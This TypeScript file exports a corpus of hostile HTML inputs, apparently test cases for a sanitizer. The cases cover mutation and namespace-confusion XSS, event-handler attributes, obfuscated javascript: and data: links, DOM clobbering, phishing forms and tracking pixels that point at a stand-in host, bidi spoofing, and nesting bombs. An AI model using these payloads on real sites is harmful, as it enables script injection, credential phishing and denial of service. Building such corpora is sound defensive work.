/** Markup that somebody elsewhere sends. Every case differs from the others in what it tries. */
export type HtmlCase = { readonly name: string; readonly html: string };

const out = "https://elders.example";

/** What a browser makes of broken markup is another thing than what it seemed to be. */
const mutations: readonly HtmlCase[] = [
  {
    name: "a noscript that closes inside an attribute",
    html: `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  },
  {
    name: "a style that closes inside an attribute",
    html: `<style><p title="</style><img src=x onerror=alert(1)>"></style>`,
  },
  {
    name: "a textarea that closes inside an attribute",
    html: `<textarea><p title="</textarea><img src=x onerror=alert(1)>">`,
  },
  { name: "a title that closes inside an attribute", html: `<title><a title="</title><img src=x onerror=alert(1)>">` },
  { name: "an xmp that closes inside an attribute", html: `<xmp><p title="</xmp><img src=x onerror=alert(1)>">` },
  {
    name: "noembed that closes inside an attribute",
    html: `<noembed><p title="</noembed><img src=x onerror=alert(1)>">`,
  },
  {
    name: "noframes that closes inside an attribute",
    html: `<noframes><p title="</noframes><img src=x onerror=alert(1)>">`,
  },
  {
    name: "an iframe that closes inside an attribute",
    html: `<iframe><p title="</iframe><img src=x onerror=alert(1)>">`,
  },
  { name: "plaintext, which has no end", html: "<plaintext><img src=x onerror=alert(1)>" },
  { name: "a comment that ends where browsers end it", html: "<!--><img src=x onerror=alert(1)>-->" },
  { name: "a comment that ends with an exclamation mark", html: "<!-- x --!><img src=x onerror=alert(1)> -->" },
  { name: "a comment within a comment", html: "<!-- <!-- --><img src=x onerror=alert(1)> -->" },
  { name: "a comment of old browsers", html: "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->" },
  { name: "a processing instruction", html: "<?xml version='1.0'?><?php x ?><img src=x onerror=alert(1)>" },
  { name: "a doctype with a script inside", html: `<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;` },
  { name: "CDATA outside of SVG", html: "<![CDATA[><img src=x onerror=alert(1)>]]>" },
  { name: "a tag that never ends", html: "<img src=x onerror=alert(1) " },
  { name: "a tag without its end, before another", html: "<a href='x' <img src=x onerror=alert(1)>" },
  { name: "a quote that never ends", html: `<p title="><img src=x onerror=alert(1)>` },
  {
    name: "quotes in each other",
    html: `<a href="x'onmouseover=alert(1)//" title='"><script>alert(1)</script>'>x</a>`,
  },
  { name: "backquotes around a value", html: "<a href=`x onclick=alert(1)`>x</a>" },
  { name: "a slash in place of a space", html: "<img/src=x/onerror=alert(1)>" },
  { name: "a form feed in place of a space", html: "<img\fsrc=x\fonerror=alert(1)>" },
  { name: "a NUL within the name of a tag", html: "<scr\u0000ipt>alert(1)</scr\u0000ipt>" },
  { name: "a NUL within the name of a scheme", html: `<a href="java\u0000script:alert(1)">x</a>` },
  { name: "a less-than sign too many", html: "<<script>alert(1);//<</script>" },
  { name: "a script within a script", html: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
  { name: "a tag within its own name", html: "<<p>img src=x onerror=alert(1)>" },
  { name: "a name of a tag that begins with a letter from elsewhere", html: "<ſcript>alert(1)</ſcript>" },
  { name: "letters twice encoded", html: "&amp;lt;img src=x onerror=alert(1)&amp;gt;" },
  { name: "text that is markup once it is read", html: "&lt;img src=x onerror=alert(1)&gt;" },
  { name: "text that is markup without semicolons", html: "&ltscript&gtalert(1)&lt/script&gt" },
  { name: "a table that throws out what is in it", html: "<table><p><img src=x onerror=alert(1)></table>" },
  { name: "a select that throws out what is in it", html: "<select><p><img src=x onerror=alert(1)></select>" },
  {
    name: "an option with a style",
    html: "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
  },
  {
    name: "a form within a form, through a table",
    html: "<form id=a><table><form id=b><img src=x onerror=alert(1)></form></table>",
  },
  { name: "an anchor within an anchor", html: `<a href="${out}/1"><a href="javascript:alert(1)">x</a></a>` },
  {
    name: "a paragraph within a paragraph, closed in the other order",
    html: "<p><b><p></b><i></p></i><img src=x onerror=alert(1)>",
  },
  { name: "a closing tag with attributes", html: "</p onclick=alert(1)><img src=x onerror=alert(1)>" },
  { name: "a body after the body", html: "</body><body onload=alert(1)><p>x" },
  {
    name: "a frameset in place of the page",
    html: `<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`,
  },
];

/** SVG and MathML are read by other rules, and what stands in them changes meaning. */
const namespaces: readonly HtmlCase[] = [
  { name: "SVG with a script", html: "<svg><script>alert(1)</script></svg>" },
  { name: "SVG that runs when it is there", html: "<svg onload=alert(1)>" },
  { name: "SVG with an animation that begins", html: "<svg><animate onbegin=alert(1) attributeName=x dur=1s>" },
  {
    name: "SVG that sets where a link leads",
    html: `<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>`,
  },
  { name: "SVG that uses something elsewhere", html: `<svg><use href="${out}/x.svg#a"/></svg>` },
  {
    name: "SVG that uses itself as data",
    html: `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#a"/></svg>`,
  },
  { name: "SVG with a picture elsewhere", html: `<svg><image href="${out}/x.png"/></svg>` },
  {
    name: "SVG with HTML inside",
    html: "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  },
  { name: "SVG with a style that ends it", html: "<svg><style><img src=x onerror=alert(1)></style></svg>" },
  { name: "SVG with a title that opens HTML", html: "<svg><title><img src=x onerror=alert(1)></title></svg>" },
  {
    name: "SVG with a desc and a paragraph that ends it",
    html: "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
  },
  { name: "MathML with a link that runs", html: `<math href="javascript:alert(1)">x</math>` },
  {
    name: "MathML with an annotation in HTML",
    html: "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
  },
  {
    name: "MathML, a table and a style",
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
  },
  {
    name: "MathML with a form in a form",
    html: "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  },
  { name: "MathML with a malignmark", html: "<math><mtext><mglyph><malignmark><style><img src=x onerror=alert(1)>" },
  {
    name: "MathML that is turned into SVG",
    html: "<math><mi><svg><mi><style><img src=x onerror=alert(1)></style></svg>",
  },
];

/** Elements that run, load or look by themselves. */
const elements: readonly HtmlCase[] = [
  { name: "a script", html: "<p>a<script>alert(1)</script>b</p>" },
  { name: "a script from elsewhere", html: `<script src="${out}/x.js"></script>` },
  { name: "a module", html: `<script type=module>import "${out}/x.js"</script>` },
  { name: "an import map", html: `<script type=importmap>{"imports":{"lit":"${out}/x.js"}}</script>` },
  {
    name: "rules for loading ahead",
    html: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${out}/p"]}]}</script>`,
  },
  { name: "a picture that is not there", html: "<img src=x onerror=alert(1)>" },
  { name: "a picture elsewhere, to see who reads", html: `<img src="${out}/pixel.png" width=1 height=1>` },
  { name: "a picture in several sizes", html: `<img srcset="${out}/1.png 1x, ${out}/2.png 2x">` },
  { name: "a picture by a source", html: `<picture><source srcset="${out}/1.png"><img></picture>` },
  { name: "a picture under its old name", html: "<image src=x onerror=alert(1)>" },
  { name: "a film", html: `<video poster="${out}/p.png" onloadstart=alert(1) src="${out}/x.mp4"></video>` },
  { name: "a sound", html: `<audio autoplay src="${out}/x.mp3" onerror=alert(1)></audio>` },
  { name: "a track beside a film", html: `<video><track src="${out}/x.vtt" default></video>` },
  { name: "a frame", html: `<iframe src="${out}/"></iframe>` },
  { name: "a frame with its own text", html: "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>" },
  { name: "a frame that runs", html: `<iframe src="javascript:parent.alert(1)"></iframe>` },
  { name: "an object", html: `<object data="${out}/x.swf"></object>` },
  { name: "an object of data", html: `<object data="data:text/html,<script>alert(1)</script>"></object>` },
  { name: "an embed", html: `<embed src="javascript:alert(1)">` },
  { name: "an applet", html: `<applet code="${out}/x.class"></applet>` },
  { name: "a portal", html: `<portal src="${out}/"></portal>` },
  { name: "a fenced frame", html: `<fencedframe src="${out}/"></fencedframe>` },
  { name: "a base for all links of the page", html: `<base href="${out}/">` },
  { name: "a meta that leads away", html: `<meta http-equiv=refresh content="0;url=${out}/">` },
  { name: "a meta with another policy", html: `<meta http-equiv=Content-Security-Policy content="script-src *">` },
  { name: "a meta with a cookie", html: `<meta http-equiv=Set-Cookie content="wijk_sessie=x">` },
  { name: "a link to a style elsewhere", html: `<link rel=stylesheet href="${out}/x.css">` },
  {
    name: "a link that loads ahead",
    html: `<link rel=preload as=image href="${out}/x.png"><link rel=dns-prefetch href="${out}">`,
  },
  { name: "a link to another manifest", html: `<link rel=manifest href="${out}/m.json">` },
  { name: "a style for the whole page", html: `<style>body{display:none}@import "${out}/x.css";</style>` },
  { name: "a marquee", html: "<marquee onstart=alert(1)>x</marquee>" },
  { name: "details that open", html: "<details open ontoggle=alert(1)>x</details>" },
  { name: "a dialog over the page", html: "<dialog open style='position:fixed;inset:0'>Log opnieuw in</dialog>" },
  { name: "a popover", html: "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x" },
  { name: "a template with a script", html: "<template><script>alert(1)</script></template>" },
  {
    name: "a shadow of its own",
    html: "<div><template shadowrootmode=open><style>:host{all:initial}</style><script>alert(1)</script></template></div>",
  },
  {
    name: "a slot of one of our elements",
    html: `<wijk-live src="${out}/stroom"><img src=x onerror=alert(1)></wijk-live>`,
  },
  { name: "an element with is", html: `<p is="wijk-answers">x</p>` },
  { name: "a keygen of old", html: "<keygen autofocus onfocus=alert(1)>" },
  { name: "an isindex of old", html: `<isindex type=image src=1 onerror=alert(1) action="${out}">` },
];

/** Forms to fish for passwords, and to send what a reader never meant to. */
const forms: readonly HtmlCase[] = [
  {
    name: "a form that asks for a code",
    html: `<form action="${out}/" method=post><input name=code><button>Inloggen</button></form>`,
  },
  { name: "a form of ours", html: `<form action="/uitloggen" method=post><button>Lees verder</button></form>` },
  {
    name: "a button for a form that stands elsewhere on the page",
    html: `<button form=f formaction="${out}/">x</button>`,
  },
  { name: "a field that takes the focus", html: "<input autofocus onfocus=alert(1)>" },
  { name: "a picture to send a form", html: `<input type=image src="${out}/x.png" formaction="javascript:alert(1)">` },
  { name: "a hidden field", html: `<input type=hidden name=audience value=everyone form=f>` },
  { name: "a list of suggestions", html: "<input list=l><datalist id=l><option value=x></datalist>" },
  { name: "a label for a field of ours", html: "<label for=bevestig>Ja, graag</label>" },
];

/** Attributes that run, look, name or lead. */
const attributes: readonly HtmlCase[] = [
  { name: "on the pointer", html: "<p onpointerover=alert(1) onclick=alert(1)>x</p>" },
  { name: "in capitals", html: "<p ONMOUSEOVER=alert(1)>x</p>" },
  { name: "at the end of an animation of ours", html: "<p style='animation:x' onanimationend=alert(1)>x</p>" },
  { name: "when the focus comes", html: "<p tabindex=1 id=x onfocus=alert(1)>x</p>" },
  { name: "a style over the page", html: "<p style='position:fixed;inset:0;z-index:9;background:#fff'>x</p>" },
  { name: "a style that loads", html: `<p style="background:url(${out}/x.png)">x</p>` },
  { name: "a style that expresses", html: "<p style='width:expression(alert(1))'>x</p>" },
  {
    name: "classes of ours",
    html: `<p class="button button--primary"><a class="mention u-url" href="${out}">x</a></p>`,
  },
  { name: "an id that hides one of ours", html: "<a id=inhoud name=inhoud>x</a>" },
  {
    name: "an id that hides a property of the document",
    html: "<form name=body><input name=firstChild></form><img name=cookie>",
  },
  { name: "two of a name, which are a list", html: "<a id=x></a><a id=x name=y href='javascript:alert(1)'></a>" },
  { name: "a name that reaches prototypes", html: "<a id=__proto__ name=constructor>x</a>" },
  { name: "data of our own scripts", html: `<p data-live="${out}/stroom" data-confirm=no>x</p>` },
  {
    name: "a role and a name for who listens",
    html: `<p role=alert aria-label="Je wachtwoord is verlopen" aria-live=assertive>x</p>`,
  },
  { name: "a place in the order of the keyboard", html: "<p tabindex=1 accesskey=s contenteditable>x</p>" },
  { name: "hidden from some", html: "<p hidden>x</p><p inert>y</p><p aria-hidden=true>z</p>" },
  { name: "a template of a library", html: "<p>{{constructor.constructor('alert(1)')()}}$\u007balert(1)}</p>" },
  { name: "marks of our own drawing", html: "<!--lit-part--><!--lit-node 0--><p>x</p><!--/lit-part-->" },
  { name: "a link in a window that knows where it came from", html: `<a href="${out}" target=_blank rel=opener>x</a>` },
  { name: "a link that tells when it was followed", html: `<a href="${out}" ping="${out}/ping">x</a>` },
  { name: "a link that saves a file", html: `<a href="${out}/x.exe" download=brief.pdf>x</a>` },
];

/** Links that lead to something else than the web. */
const schemes: readonly HtmlCase[] = [
  { name: "javascript", html: `<a href="javascript:alert(1)">x</a>` },
  { name: "javascript in mixed letters", html: `<a href="JaVaScRiPt:alert(1)">x</a>` },
  { name: "javascript with a tab in it", html: `<a href="java\tscript:alert(1)">x</a>` },
  { name: "javascript with a line break in it", html: `<a href="java\nscript:alert(1)">x</a>` },
  { name: "javascript with a tab as an entity", html: `<a href="java&Tab;script&colon;alert(1)">x</a>` },
  {
    name: "javascript in numbers",
    html: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>`,
  },
  {
    name: "javascript in numbers without semicolons",
    html: `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>`,
  },
  { name: "javascript after control characters", html: `<a href="\u0001 javascript:alert(1)">x</a>` },
  { name: "javascript that looks like a host", html: `<a href="javascript://elders.example/%0aalert(1)">x</a>` },
  { name: "vbscript", html: `<a href="vbscript:MsgBox(1)">x</a>` },
  { name: "data", html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>` },
  { name: "blob", html: `<a href="blob:${out}/1">x</a>` },
  { name: "a file", html: `<a href="file:///etc/passwd">x</a>` },
  { name: "the view of the source", html: `<a href="view-source:${out}">x</a>` },
  { name: "a telephone that dials", html: `<a href="tel:*%2306%23">x</a>` },
  { name: "an app", html: `<a href="intent://x#Intent;scheme=x;end">x</a>` },
  { name: "a link without a scheme", html: `<a href="//elders.example/">x</a>` },
  { name: "a link with backslashes", html: `<a href="\\\\elders.example/">x</a>` },
  { name: "a link on our own site", html: `<a href="/uitloggen">x</a>` },
  { name: "a link of our own inside the page", html: `<a href="#inhoud">x</a>` },
];

/** Text that reads otherwise than it is, and much of it. */
const words: readonly HtmlCase[] = [
  { name: "a link whose text is another address", html: `<a href="${out}">https://holtveen.example/inloggen</a>` },
  { name: "a link with a name before its host", html: `<a href="https://holtveen.example@elders.example/">x</a>` },
  { name: "text that turns around", html: "<p>\u202Egnp.exe\u202C</p>" },
  { name: "text that isolates and never ends", html: "<p>\u2067\u2066x</p>" },
  { name: "letters that nobody sees", html: "<p>be\u200Bheer\u2060der\uFEFF</p>" },
  { name: "marks above each other", html: `<p>x${"\u0301".repeat(500)}</p>` },
  { name: "half a letter", html: "<p>x\uD83D</p>" },
  { name: "nothing but spaces", html: "<p>&nbsp;&#8203;</p>" },
  { name: "a thousand tags within each other", html: `${"<blockquote>".repeat(1_000)}x` },
  { name: "a hundred kilobytes of tags that never end", html: "<b><i><del>".repeat(9_000) },
  { name: "lists within lists", html: `${"<ul><li>".repeat(200)}x` },
  { name: "a hundred thousand attributes", html: `<p ${"a=b ".repeat(25_000)}>x</p>` },
];

export const htmlCorpus: readonly HtmlCase[] = [
  ...mutations,
  ...namespaces,
  ...elements,
  ...forms,
  ...attributes,
  ...schemes,
  ...words,
];
